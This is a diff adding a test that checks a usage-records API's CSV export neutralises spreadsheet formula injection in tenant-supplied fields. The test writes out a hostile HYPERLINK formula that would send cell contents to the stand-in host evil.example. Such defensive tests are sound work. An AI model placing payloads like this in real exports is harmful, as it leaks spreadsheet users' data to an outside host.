@@ -168,6 +168,18 @@ async def test_records_export_as_csv_with_a_header_and_one_row_each(
     assert sum(int(r["billed_minutes"]) for r in rows) == 8
 
 
+async def test_tenant_text_that_would_run_as_a_formula_is_defused_in_csv(
+    api: Api, clock: FakeClock
+) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open me")'
+    await lasting(api, clock, 61, subject={"kind": "user", "id": hostile}, scope="-1+1")
+    params = {**DAY, "format": "csv"}
+    response = await api.client.get("/v1/usage/records", params=params, headers=api.headers)
+    [row] = list(csv.DictReader(io.StringIO(response.text)))
+    assert (row["subject_id"], row["scope"]) == ("'" + hostile, "'-1+1")
+    assert (row["billed_minutes"], row["active_seconds"]) == ("2", "61")
+
+
 async def cloudevents(api: Api, path: str) -> list[JsonObject]:
     params = {**DAY, "format": "cloudevents"}
     response = await api.client.get(path, params=params, headers=api.headers)
